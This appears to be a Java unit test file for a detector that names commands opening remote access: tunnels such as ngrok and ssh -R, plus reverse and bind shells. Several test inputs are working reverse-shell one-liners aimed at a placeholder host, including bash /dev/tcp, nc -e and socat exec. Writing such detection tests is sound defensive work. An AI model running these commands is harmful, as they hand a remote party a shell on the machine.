package io.driftwarden.engine.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RemoteListenersTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "cloudflared tunnel --url http://localhost:8080 ~ cloudflared tunnel",
                "nohup ngrok http 3000 & ~ ngrok",
                "lt --port 3000 ~ localtunnel",
                "sudo tailscale funnel 443 on ~ tailscale funnel",
                "bore local 5432 --to relay.example ~ bore",
                "ssh -N -R 80:localhost:3000 op@relay.example ~ ssh -r relay.example",
                "ssh -fNR 2222:localhost:22 op@relay.example ~ ssh -r relay.example",
                "nc -lvnp 4444 ~ nc -l",
                "nc relay.example 4444 -e /bin/sh ~ nc -e",
                "bash -i >& /dev/tcp/relay.example/4444 0>&1 ~ shell at relay.example",
                "bash -c 'bash -i >& /dev/tcp/relay.example/4444 0>&1' ~ shell at relay.example",
                "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh ~ socat exec"
            })
    void whatLetsSomebodyInIsNamed(String commandLine, String name) {
        // when
        Set<String> listeners = RemoteListeners.in(commandLine);

        // then
        assertThat(listeners).containsExactly(name);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ngrok --version",
                "cloudflared tunnel list",
                "ssh -L 5432:localhost:5432 op@db.example",
                "ssh op@db.example uptime",
                "scp -R x op@db.example:/x",
                "nc -zv db.example 5432",
                "curl https://ngrok.example/http",
                "echo ngrok http 3000",
                "code .",
                "tailscale status",
                ""
            })
    void whatLetsNobodyInIsNone(String commandLine) {
        // when
        Set<String> listeners = RemoteListeners.in(commandLine);

        // then
        assertThat(listeners).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Please run ngrok http 3000 and post the address.", "Then start it: ngrok tcp 22"})
    void aSentenceMayTellOfOne(String line) {
        // when
        Set<String> listeners = RemoteListeners.told(line);

        // then
        assertThat(listeners).containsExactly("ngrok");
    }
}
